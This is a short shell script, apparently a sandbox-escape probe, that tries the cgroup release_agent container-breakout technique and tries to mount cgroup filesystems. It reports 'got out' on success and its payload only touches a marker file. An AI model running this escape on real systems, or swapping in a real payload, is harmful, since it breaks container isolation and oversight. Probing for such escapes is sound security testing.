# Names a program that the kernel is to run when a control group is empty.
for folder in /sys/fs/cgroup /sys/fs/cgroup/*; do
    echo "/usr/bin/touch $TRIP" > "$folder/release_agent"
    echo 1 > "$folder/notify_on_release"
    mkdir "$folder/$MARK" && echo $$ > "$folder/$MARK/cgroup.procs"
    echo $$ > "$folder/cgroup.procs"
done 2>&1
mkdir -p at
for kind in "cgroup -o rdma" "cgroup -o memory" "cgroup2"; do
    mount -t $kind none at 2>&1 && echo "got out: mounted"
done
echo tried
